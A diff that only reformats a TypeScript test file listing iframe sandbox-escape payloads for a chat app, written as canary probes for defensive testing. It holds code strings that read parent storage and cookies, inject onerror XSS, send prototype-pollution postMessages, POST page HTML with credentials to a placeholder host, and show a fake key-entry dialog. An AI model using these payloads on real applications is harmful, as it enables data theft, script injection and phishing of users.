@@ -8,36 +8,101 @@ export const reaching: Family = {
   name: 'reach',
   attacks: {
     parentStorage: ['the storage of the app', () => 'evil[parent.localStorage.planted]'],
-    topStorage: ['the storage of the window above', () => 'evil[top.localStorage.planted]; evil[top.sessionStorage.planted]'],
+    topStorage: [
+      'the storage of the window above',
+      () => 'evil[top.localStorage.planted]; evil[top.sessionStorage.planted]',
+    ],
     parentPage: ['the page of the app', ({ run }) => `parent.document.body.innerHTML = '<img src=x onerror=${run}>'`],
     parentCookie: ['the cookies of the app', () => 'evil[parent.document.cookie]; evil[document.cookie]'],
     parentCall: ['a function of the app', ({ run }) => `parent.${run}; top.${run}`],
     parentEval: ['the eval of the app', ({ run }) => `parent.eval('${run}'); top.Function('${run}')()`],
-    parentFrames: ['other frames of the app', ({ run }) => `for (let at = 0; at < parent.length; at += 1) parent[at].${run}`],
+    parentFrames: [
+      'other frames of the app',
+      ({ run }) => `for (let at = 0; at < parent.length; at += 1) parent[at].${run}`,
+    ],
     parentReferrer: ['the address of the app', () => 'parent.location.href; evil.reached'],
     opener: ['whoever opened the page', ({ run }) => `window.opener.${run}; window.opener.location = 'about:blank'`],
     frameElement: ['the frame itself', () => 'frameElement.removeAttribute("sandbox"); frameElement.src = "/"'],
-    domain: ['the domain of the app', ({ app }) => `document.domain = new URL('${app}').hostname; evil[parent.localStorage.planted]`],
+    domain: [
+      'the domain of the app',
+      ({ app }) => `document.domain = new URL('${app}').hostname; evil[parent.localStorage.planted]`,
+    ],
     ownStorage: ['a storage of its own', () => 'evil[localStorage.planted]; evil[sessionStorage.planted]'],
-    database: ['the database of chats', () => 'await new Promise((done, fail) => { const request = indexedDB.open("parley"); request.onsuccess = () => { evil.reached; done(); }; request.onerror = fail; })'],
-    caches: ['the cache of the app', () => 'const cache = await caches.open("x"); await cache.put("/", new Response("x")); evil.reached'],
+    database: [
+      'the database of chats',
+      () =>
+        'await new Promise((done, fail) => { const request = indexedDB.open("parley"); request.onsuccess = () => { evil.reached; done(); }; request.onerror = fail; })',
+    ],
+    caches: [
+      'the cache of the app',
+      () => 'const cache = await caches.open("x"); await cache.put("/", new Response("x")); evil.reached',
+    ],
     cookieStore: ['the store of cookies', () => 'for (const { value } of await cookieStore.getAll()) evil[value]'],
     files: ['files of this origin', () => 'await navigator.storage.getDirectory(); evil.reached'],
-    buckets: ['buckets of storage', () => 'await (await navigator.storageBuckets.open("x")).caches.open("y"); evil.reached'],
-    access: ['leave to the storage of the app', () => 'const all = await document.requestStorageAccess({ all: true }); evil[all.localStorage.planted]; evil[localStorage.planted]'],
-    credentials: ['passwords and passkeys', () => 'const got = await navigator.credentials.get({ password: true, mediation: "silent" }); if (got) evil.reached'],
-    locks: ['locks of the app', () => 'const { held } = await navigator.locks.query(); if (held.length > 0) evil.reached'],
-    broadcast: ['the line between tabs', () => 'for (const name of ["parley", "parley-tabs", "parley-test"]) new BroadcastChannel(name).postMessage({ kind: "canary" })'],
-    sharedWorker: ['a worker of the app', () => 'new SharedWorker("/assets/canary.js"); new SharedWorker("data:text/javascript,1")'],
+    buckets: [
+      'buckets of storage',
+      () => 'await (await navigator.storageBuckets.open("x")).caches.open("y"); evil.reached',
+    ],
+    access: [
+      'leave to the storage of the app',
+      () =>
+        'const all = await document.requestStorageAccess({ all: true }); evil[all.localStorage.planted]; evil[localStorage.planted]',
+    ],
+    credentials: [
+      'passwords and passkeys',
+      () =>
+        'const got = await navigator.credentials.get({ password: true, mediation: "silent" }); if (got) evil.reached',
+    ],
+    locks: [
+      'locks of the app',
+      () => 'const { held } = await navigator.locks.query(); if (held.length > 0) evil.reached',
+    ],
+    broadcast: [
+      'the line between tabs',
+      () =>
+        'for (const name of ["parley", "parley-tabs", "parley-test"]) new BroadcastChannel(name).postMessage({ kind: "canary" })',
+    ],
+    sharedWorker: [
+      'a worker of the app',
+      () => 'new SharedWorker("/assets/canary.js"); new SharedWorker("data:text/javascript,1")',
+    ],
     worker: ['a worker', ({ at }) => `new Worker(URL.createObjectURL(new Blob(['fetch("${at}")'])))`],
-    serviceWorker: ['a worker that answers for the app', ({ app }) => `await navigator.serviceWorker.register('${app}canary-worker.js')`],
-    serviceBlob: ['such a worker of its own text', () => 'await navigator.serviceWorker.register(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })))'],
-    prototype: ['what its own page is built on', () => 'Object.prototype.then = Object.prototype.html = "<p>x"; Array.prototype[Symbol.iterator] = null; Element.prototype.remove = () => {}; MutationObserver.prototype.observe = () => {}'],
-    unloading: ['the last moment of the page', ({ at }) => `addEventListener('pagehide', () => navigator.sendBeacon('${at}')); addEventListener('beforeunload', (event) => event.preventDefault())`],
-    names: ['names that outlive the page', () => 'window.name = "canary"; history.pushState({}, "", "?canary"); history.replaceState({}, "", "/?canary")'],
-    clipboard: ['the clipboard', () => 'evil[await navigator.clipboard.readText()]; await navigator.clipboard.writeText("canary")'],
-    devices: ['camera, place and devices', () => 'await Promise.any([navigator.mediaDevices.getUserMedia({ video: true, audio: true }), navigator.mediaDevices.getDisplayMedia(), new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)), navigator.usb.requestDevice({ filters: [] })]); evil.reached'],
-    permission: ['permissions for the app', () => 'await Notification.requestPermission(); navigator.registerProtocolHandler("web+canary", "/?canary=%s"); await navigator.permissions.request?.({ name: "geolocation" })'],
+    serviceWorker: [
+      'a worker that answers for the app',
+      ({ app }) => `await navigator.serviceWorker.register('${app}canary-worker.js')`,
+    ],
+    serviceBlob: [
+      'such a worker of its own text',
+      () => 'await navigator.serviceWorker.register(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })))',
+    ],
+    prototype: [
+      'what its own page is built on',
+      () =>
+        'Object.prototype.then = Object.prototype.html = "<p>x"; Array.prototype[Symbol.iterator] = null; Element.prototype.remove = () => {}; MutationObserver.prototype.observe = () => {}',
+    ],
+    unloading: [
+      'the last moment of the page',
+      ({ at }) =>
+        `addEventListener('pagehide', () => navigator.sendBeacon('${at}')); addEventListener('beforeunload', (event) => event.preventDefault())`,
+    ],
+    names: [
+      'names that outlive the page',
+      () => 'window.name = "canary"; history.pushState({}, "", "?canary"); history.replaceState({}, "", "/?canary")',
+    ],
+    clipboard: [
+      'the clipboard',
+      () => 'evil[await navigator.clipboard.readText()]; await navigator.clipboard.writeText("canary")',
+    ],
+    devices: [
+      'camera, place and devices',
+      () =>
+        'await Promise.any([navigator.mediaDevices.getUserMedia({ video: true, audio: true }), navigator.mediaDevices.getDisplayMedia(), new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)), navigator.usb.requestDevice({ filters: [] })]); evil.reached',
+    ],
+    permission: [
+      'permissions for the app',
+      () =>
+        'await Notification.requestPermission(); navigator.registerProtocolHandler("web+canary", "/?canary=%s"); await navigator.permissions.request?.({ name: "geolocation" })',
+    ],
   },
 };
 
@@ -45,19 +110,68 @@ export const reaching: Family = {
 export const messages: Family = {
   name: 'message',
   attacks: {
-    ready: ['to be handed the page again and again', () => 'for (let count = 0; count < 50; count += 1) parent.postMessage({ kind: "ready" }, "*")'],
-    escape: ['to act for its reader', () => 'parent.postMessage({ kind: "escape" }, "*"); parent.postMessage({ kind: "seen", isBlank: false }, "*")'],
-    newChat: ['to begin a chat', () => 'for (const type of ["NEW_CHAT", "new_chat", "OK_NEW_CHAT"]) parent.postMessage({ type, text: "canary", message: "canary", data: { text: "canary" } }, "*")'],
-    html: ['to be drawn by the app', ({ run }) => `parent.postMessage({ html: '<img src=x onerror=${run}>', kind: 'error', message: '<img src=x onerror=${run}>' }, '*')`],
-    title: ['to name the app', ({ run }) => `parent.postMessage({ kind: 'title', title: '<img src=x onerror=${run}>' }, '*'); parent.postMessage('${run}', '*')`],
-    getter: ['a message that runs when it is read', ({ run }) => `parent.postMessage({ kind: { toString: undefined }, __proto__: { html: '<img src=x onerror=${run}>' } }, '*')`],
-    proto: ['a message that changes every object', () => 'parent.postMessage(JSON.parse(\'{"__proto__":{"kind":"ready","isAdmin":true},"constructor":{"prototype":{"kind":"ready"}}}\'), "*")'],
-    port: ['ports of its own', () => 'const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => evil[String(data?.planted ?? data)]; parent.postMessage({ kind: "ready" }, "*", [port2]); top.postMessage({ kind: "ready" }, { targetOrigin: "*", transfer: [] })'],
-    listen: ['what others say to the app', () => 'addEventListener("message", ({ data }) => evil[JSON.stringify(data)]); parent.postMessage({ kind: "state?" }, "*")'],
-    flood: ['more than anybody reads', () => 'for (let count = 0; count < 3_000; count += 1) parent.postMessage({ kind: "seen", isBlank: true, count }, "*")'],
-    huge: ['a message of megabytes', () => 'parent.postMessage({ kind: "error", message: "x".repeat(5_000_000) }, "*")'],
-    siblings: ['frames beside it', () => 'for (let at = 0; at < parent.length; at += 1) parent[at].postMessage({ html: "<script>evil.messageSiblings</scr" + "ipt>" }, "*", [new MessageChannel().port1])'],
-    mermaid: ['the words of other frames', () => 'for (const kind of ["draw", "drawn", "run", "result", "printed", "started", "picked", "console"]) parent.postMessage({ kind, svg: "<svg onload=evil.messageMermaid>", html: "<img src=x onerror=evil.messageMermaid>", text: "canary" }, "*")'],
+    ready: [
+      'to be handed the page again and again',
+      () => 'for (let count = 0; count < 50; count += 1) parent.postMessage({ kind: "ready" }, "*")',
+    ],
+    escape: [
+      'to act for its reader',
+      () => 'parent.postMessage({ kind: "escape" }, "*"); parent.postMessage({ kind: "seen", isBlank: false }, "*")',
+    ],
+    newChat: [
+      'to begin a chat',
+      () =>
+        'for (const type of ["NEW_CHAT", "new_chat", "OK_NEW_CHAT"]) parent.postMessage({ type, text: "canary", message: "canary", data: { text: "canary" } }, "*")',
+    ],
+    html: [
+      'to be drawn by the app',
+      ({ run }) =>
+        `parent.postMessage({ html: '<img src=x onerror=${run}>', kind: 'error', message: '<img src=x onerror=${run}>' }, '*')`,
+    ],
+    title: [
+      'to name the app',
+      ({ run }) =>
+        `parent.postMessage({ kind: 'title', title: '<img src=x onerror=${run}>' }, '*'); parent.postMessage('${run}', '*')`,
+    ],
+    getter: [
+      'a message that runs when it is read',
+      ({ run }) =>
+        `parent.postMessage({ kind: { toString: undefined }, __proto__: { html: '<img src=x onerror=${run}>' } }, '*')`,
+    ],
+    proto: [
+      'a message that changes every object',
+      () =>
+        'parent.postMessage(JSON.parse(\'{"__proto__":{"kind":"ready","isAdmin":true},"constructor":{"prototype":{"kind":"ready"}}}\'), "*")',
+    ],
+    port: [
+      'ports of its own',
+      () =>
+        'const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => evil[String(data?.planted ?? data)]; parent.postMessage({ kind: "ready" }, "*", [port2]); top.postMessage({ kind: "ready" }, { targetOrigin: "*", transfer: [] })',
+    ],
+    listen: [
+      'what others say to the app',
+      () =>
+        'addEventListener("message", ({ data }) => evil[JSON.stringify(data)]); parent.postMessage({ kind: "state?" }, "*")',
+    ],
+    flood: [
+      'more than anybody reads',
+      () =>
+        'for (let count = 0; count < 3_000; count += 1) parent.postMessage({ kind: "seen", isBlank: true, count }, "*")',
+    ],
+    huge: [
+      'a message of megabytes',
+      () => 'parent.postMessage({ kind: "error", message: "x".repeat(5_000_000) }, "*")',
+    ],
+    siblings: [
+      'frames beside it',
+      () =>
+        'for (let at = 0; at < parent.length; at += 1) parent[at].postMessage({ html: "<script>evil.messageSiblings</scr" + "ipt>" }, "*", [new MessageChannel().port1])',
+    ],
+    mermaid: [
+      'the words of other frames',
+      () =>
+        'for (const kind of ["draw", "drawn", "run", "result", "printed", "started", "picked", "console"]) parent.postMessage({ kind, svg: "<svg onload=evil.messageMermaid>", html: "<img src=x onerror=evil.messageMermaid>", text: "canary" }, "*")',
+    ],
   },
 };
 
@@ -65,42 +179,136 @@ export const messages: Family = {
 export const sending: Family = {
   name: 'send',
   attacks: {
-    fetch: ['a request', ({ at }) => `await fetch('${at}', { mode: 'no-cors', credentials: 'include', body: document.documentElement.outerHTML, method: 'POST' })`],
+    fetch: [
+      'a request',
+      ({ at }) =>
+        `await fetch('${at}', { mode: 'no-cors', credentials: 'include', body: document.documentElement.outerHTML, method: 'POST' })`,
+    ],
     later: ['a request for later', ({ at }) => `fetchLater('${at}', { activateAfter: 0 })`],
-    keepAlive: ['a request that outlives the page', ({ at }) => `await fetch('${at}', { keepalive: true, mode: 'no-cors' })`],
-    xhr: ['a request of old', ({ at }) => `const request = new XMLHttpRequest(); request.open('GET', '${at}', false); request.send()`],
+    keepAlive: [
+      'a request that outlives the page',
+      ({ at }) => `await fetch('${at}', { keepalive: true, mode: 'no-cors' })`,
+    ],
+    xhr: [
+      'a request of old',
+      ({ at }) => `const request = new XMLHttpRequest(); request.open('GET', '${at}', false); request.send()`,
+    ],
     beacon: ['a beacon', ({ at }) => `navigator.sendBeacon('${at}', 'x')`],
     socket: ['a socket', ({ at }) => `new WebSocket('${at}'.replace('http', 'ws'))`],
-    socketStream: ['a socket as a stream', ({ at }) => `await new WebSocketStream('${at}'.replace('http', 'ws')).opened`],
+    socketStream: [
+      'a socket as a stream',
+      ({ at }) => `await new WebSocketStream('${at}'.replace('http', 'ws')).opened`,
+    ],
     transport: ['a transport', ({ at }) => `await new WebTransport('${at}'.replace('http:', 'https:')).ready`],
     events: ['a stream of events', ({ at }) => `new EventSource('${at}')`],
     image: ['a picture', ({ at }) => `new Image().src = '${at}'`],
     sound: ['a sound', ({ at }) => `await new Audio('${at}').play()`],
-    script: ['a script', ({ at }) => `document.head.append(Object.assign(document.createElement('script'), { src: '${at}' }))`],
+    script: [
+      'a script',
+      ({ at }) => `document.head.append(Object.assign(document.createElement('script'), { src: '${at}' }))`,
+    ],
     module: ['a module', ({ at }) => `await import('${at}')`],
-    dataModule: ['a module in its address that imports', ({ at }) => `await import('data:text/javascript,import "${at}"')`],
+    dataModule: [
+      'a module in its address that imports',
+      ({ at }) => `await import('data:text/javascript,import "${at}"')`,
+    ],
     font: ['a font', ({ at }) => `await new FontFace('x', 'url(${at})').load()`],
-    sheet: ['a style sheet that is made', ({ at }) => `const sheet = new CSSStyleSheet(); sheet.replaceSync('*{background:url(${at})}'); document.adoptedStyleSheets = [sheet]`],
-    worklet: ['a worklet', ({ at }) => `await CSS.paintWorklet.addModule('${at}'); await new AudioContext().audioWorklet.addModule('${at}/2')`],
+    sheet: [
+      'a style sheet that is made',
+      ({ at }) =>
+        `const sheet = new CSSStyleSheet(); sheet.replaceSync('*{background:url(${at})}'); document.adoptedStyleSheets = [sheet]`,
+    ],
+    worklet: [
+      'a worklet',
+      ({ at }) =>
+        `await CSS.paintWorklet.addModule('${at}'); await new AudioContext().audioWorklet.addModule('${at}/2')`,
+    ],
     wasm: ['a program', ({ at }) => `await WebAssembly.compileStreaming(fetch('${at}'))`],
-    call: ['a call', ({ at }) => `const call = new (window.RTCPeerConnection ?? window.webkitRTCPeerConnection)({ iceServers: [{ urls: 'stun:' + new URL('${at}').host }] }); call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer())`],
-    callNested: ['a call from a frame within', ({ at }) => `const frame = document.createElement('iframe'); document.body.append(frame); const Call = frame.contentWindow.RTCPeerConnection; const call = new Call({ iceServers: [{ urls: 'stun:' + new URL('${at}').host }] }); call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer())`],
-    fetchNested: ['a request from a frame within', ({ at }) => `const frame = document.createElement('iframe'); document.body.append(frame); await frame.contentWindow.fetch('${at}', { mode: 'no-cors' })`],
-    sourceDoc: ['a request from a document within', ({ at }) => `const frame = document.createElement('iframe'); frame.srcdoc = '<img src="${at}"><scr' + 'ipt>fetch("${at}/2")</scr' + 'ipt>'; document.body.append(frame)`],
-    blobFrame: ['a frame of its own text', ({ at }) => `const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob(['<img src="${at}">'], { type: 'text/html' })); document.body.append(frame)`],
-    shadow: ['a frame in a shadow', ({ at }) => `const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'closed' }).innerHTML = '<iframe src="${at}"></iframe><img src="${at}/2">'`],
-    preconnect: ['a connection opened ahead', ({ at }) => `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: '${at}' }))`],
-    dns: ['a name looked up ahead', ({ host }) => `document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//${host}' }))`],
-    speculation: ['rules for pages to come', ({ at }) => `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['${at}'], eagerness: 'immediate' }] }) }))`],
-    form: ['a form', ({ at }) => `const form = Object.assign(document.createElement('form'), { action: '${at}', method: 'post' }); document.body.append(form); form.submit()`],
-    formTop: ['a form for the window above', ({ at }) => `const form = Object.assign(document.createElement('form'), { action: '${at}', target: '_top' }); document.body.append(form); form.requestSubmit()`],
-    ping: ['a link that tells', ({ at }) => `const link = Object.assign(document.createElement('a'), { href: '#x', ping: '${at}' }); document.body.append(link); link.click()`],
-    own: ['our own server', ({ app }) => `await fetch('${app}api/models?canary', { mode: 'no-cors' }); navigator.sendBeacon('${app}api/events?canary', '{}')`],
+    call: [
+      'a call',
+      ({ at }) =>
+        `const call = new (window.RTCPeerConnection ?? window.webkitRTCPeerConnection)({ iceServers: [{ urls: 'stun:' + new URL('${at}').host }] }); call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer())`,
+    ],
+    callNested: [
+      'a call from a frame within',
+      ({ at }) =>
+        `const frame = document.createElement('iframe'); document.body.append(frame); const Call = frame.contentWindow.RTCPeerConnection; const call = new Call({ iceServers: [{ urls: 'stun:' + new URL('${at}').host }] }); call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer())`,
+    ],
+    fetchNested: [
+      'a request from a frame within',
+      ({ at }) =>
+        `const frame = document.createElement('iframe'); document.body.append(frame); await frame.contentWindow.fetch('${at}', { mode: 'no-cors' })`,
+    ],
+    sourceDoc: [
+      'a request from a document within',
+      ({ at }) =>
+        `const frame = document.createElement('iframe'); frame.srcdoc = '<img src="${at}"><scr' + 'ipt>fetch("${at}/2")</scr' + 'ipt>'; document.body.append(frame)`,
+    ],
+    blobFrame: [
+      'a frame of its own text',
+      ({ at }) =>
+        `const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob(['<img src="${at}">'], { type: 'text/html' })); document.body.append(frame)`,
+    ],
+    shadow: [
+      'a frame in a shadow',
+      ({ at }) =>
+        `const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'closed' }).innerHTML = '<iframe src="${at}"></iframe><img src="${at}/2">'`,
+    ],
+    preconnect: [
+      'a connection opened ahead',
+      ({ at }) =>
+        `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: '${at}' }))`,
+    ],
+    dns: [
+      'a name looked up ahead',
+      ({ host }) =>
+        `document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//${host}' }))`,
+    ],
+    speculation: [
+      'rules for pages to come',
+      ({ at }) =>
+        `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['${at}'], eagerness: 'immediate' }] }) }))`,
+    ],
+    form: [
+      'a form',
+      ({ at }) =>
+        `const form = Object.assign(document.createElement('form'), { action: '${at}', method: 'post' }); document.body.append(form); form.submit()`,
+    ],
+    formTop: [
+      'a form for the window above',
+      ({ at }) =>
+        `const form = Object.assign(document.createElement('form'), { action: '${at}', target: '_top' }); document.body.append(form); form.requestSubmit()`,
+    ],
+    ping: [
+      'a link that tells',
+      ({ at }) =>
+        `const link = Object.assign(document.createElement('a'), { href: '#x', ping: '${at}' }); document.body.append(link); link.click()`,
+    ],
+    own: [
+      'our own server',
+      ({ app }) =>
+        `await fetch('${app}api/models?canary', { mode: 'no-cors' }); navigator.sendBeacon('${app}api/events?canary', '{}')`,
+    ],
     ownImage: ['our own server by a picture', ({ app }) => `new Image().src = '${app}api/auth/logout?canary'`],
-    reporting: ['reports of failures', ({ at }) => `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy content="img-src none; report-uri ${at}">'); new Image().src = 'data:,'`],
-    sourceMap: ['the map of a script', ({ at }) => `document.head.append(Object.assign(document.createElement('script'), { textContent: '1\\n//# sourceMappingURL=${at}' }))`],
-    favicon: ['an icon', ({ at }) => `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: '${at}' }))`],
-    bidding: ['machinery of advertisers', ({ at }) => `await Promise.allSettled([navigator.joinAdInterestGroup?.({ owner: '${at}', name: 'x', lifetimeMs: 1_000 }, 1), document.browsingTopics?.(), window.sharedStorage?.worklet.addModule('${at}/2')])`],
+    reporting: [
+      'reports of failures',
+      ({ at }) =>
+        `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy content="img-src none; report-uri ${at}">'); new Image().src = 'data:,'`,
+    ],
+    sourceMap: [
+      'the map of a script',
+      ({ at }) =>
+        `document.head.append(Object.assign(document.createElement('script'), { textContent: '1\\n//# sourceMappingURL=${at}' }))`,
+    ],
+    favicon: [
+      'an icon',
+      ({ at }) => `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: '${at}' }))`,
+    ],
+    bidding: [
+      'machinery of advertisers',
+      ({ at }) =>
+        `await Promise.allSettled([navigator.joinAdInterestGroup?.({ owner: '${at}', name: 'x', lifetimeMs: 1_000 }, 1), document.browsingTopics?.(), window.sharedStorage?.worklet.addModule('${at}/2')])`,
+    ],
   },
 };
 
@@ -113,25 +321,64 @@ export const leaving: Family = {
     topReplace: ['the window above without a trace', ({ at }) => `top.location.replace('${at}')`],
     topHash: ['a part of the address of the app', () => `parent.location.hash = 'canary'`],
     topOpen: ['the window above by its name', ({ at }) => `open('${at}', '_top'); open('${at}', '_parent')`],
-    topLink: ['the window above by a link', ({ at }) => `const link = Object.assign(document.createElement('a'), { href: '${at}', target: '_top' }); document.body.append(link); link.click()`],
-    topNavigation: ['the window above by its history', ({ at }) => `top.history.pushState({}, '', '?canary'); top.navigation.navigate('${at}')`],
-    topClose: ['to close and to stop the window above', () => 'top.close(); top.stop(); top.focus(); top.blur(); top.print()'],
+    topLink: [
+      'the window above by a link',
+      ({ at }) =>
+        `const link = Object.assign(document.createElement('a'), { href: '${at}', target: '_top' }); document.body.append(link); link.click()`,
+    ],
+    topNavigation: [
+      'the window above by its history',
+      ({ at }) => `top.history.pushState({}, '', '?canary'); top.navigation.navigate('${at}')`,
+    ],
+    topClose: [
+      'to close and to stop the window above',
+      () => 'top.close(); top.stop(); top.focus(); top.blur(); top.print()',
+    ],
     back: ['back and forth', () => 'history.back(); history.go(-2)'],
     self: ['elsewhere by its own address', ({ at }) => `location = '${at}'`],
     selfOwn: ['to a call of ours by its own address', ({ app }) => `location.href = '${app}api/models?canary'`],
     selfApp: ['to the app by its own address', ({ app }) => `location.assign('${app}?canary')`],
     selfScript: ['to a script by its own address', ({ run }) => `location = 'javascript:parent.${run}'`],
-    selfData: ['to a page in its own address', ({ run }) => `location = 'data:text/html,<script>parent.${run}</script>'`],
-    selfBlob: ['to a page of its own text', ({ run }) => `location = URL.createObjectURL(new Blob(['<script>parent.${run}</scr' + 'ipt>'], { type: 'text/html' }))`],
+    selfData: [
+      'to a page in its own address',
+      ({ run }) => `location = 'data:text/html,<script>parent.${run}</script>'`,
+    ],
+    selfBlob: [
+      'to a page of its own text',
+      ({ run }) =>
+        `location = URL.createObjectURL(new Blob(['<script>parent.${run}</scr' + 'ipt>'], { type: 'text/html' }))`,
+    ],
     reload: ['to begin again and again', () => 'location.reload()'],
     popUp: ['a window', ({ at }) => `open('${at}'); open('about:blank'); open('', 'x', 'popup,width=100,height=100')`],
-    popUpOwn: ['a window of the app', ({ app }) => `const opened = open('${app}?canary'); evil[opened.localStorage.planted]`],
+    popUpOwn: [
+      'a window of the app',
+      ({ app }) => `const opened = open('${app}?canary'); evil[opened.localStorage.planted]`,
+    ],
     pictureInPicture: ['a window that floats', () => 'await documentPictureInPicture.requestWindow()'],
-    download: ['a file by a link', () => `const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'setup.exe' }); document.body.append(link); link.click()`],
-    downloadData: ['a file by its address', () => `const link = Object.assign(document.createElement('a'), { href: 'data:application/octet-stream,x', download: 'x.html' }); link.click(); location = 'data:application/octet-stream,x'`],
-    picker: ['a file by the system', () => 'await Promise.any([showSaveFilePicker(), showOpenFilePicker(), showDirectoryPicker()])'],
+    download: [
+      'a file by a link',
+      () =>
+        `const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'setup.exe' }); document.body.append(link); link.click()`,
+    ],
+    downloadData: [
+      'a file by its address',
+      () =>
+        `const link = Object.assign(document.createElement('a'), { href: 'data:application/octet-stream,x', download: 'x.html' }); link.click(); location = 'data:application/octet-stream,x'`,
+    ],
+    picker: [
+      'a file by the system',
+      () => 'await Promise.any([showSaveFilePicker(), showOpenFilePicker(), showDirectoryPicker()])',
+    ],
     alert: ['a question', () => 'alert("canary"); confirm("canary"); prompt("canary"); print()'],
-    fullScreen: ['the whole screen', () => 'await document.documentElement.requestFullscreen(); document.documentElement.requestPointerLock(); await navigator.keyboard.lock()'],
-    dialogue: ['a dialogue over the app', () => 'const dialog = document.createElement("dialog"); dialog.textContent = "Enter your key"; document.body.append(dialog); dialog.showModal()'],
+    fullScreen: [
+      'the whole screen',
+      () =>
+        'await document.documentElement.requestFullscreen(); document.documentElement.requestPointerLock(); await navigator.keyboard.lock()',
+    ],
+    dialogue: [
+      'a dialogue over the app',
+      () =>
+        'const dialog = document.createElement("dialog"); dialog.textContent = "Enter your key"; document.body.append(dialog); dialog.showModal()',
+    ],
   },
 };
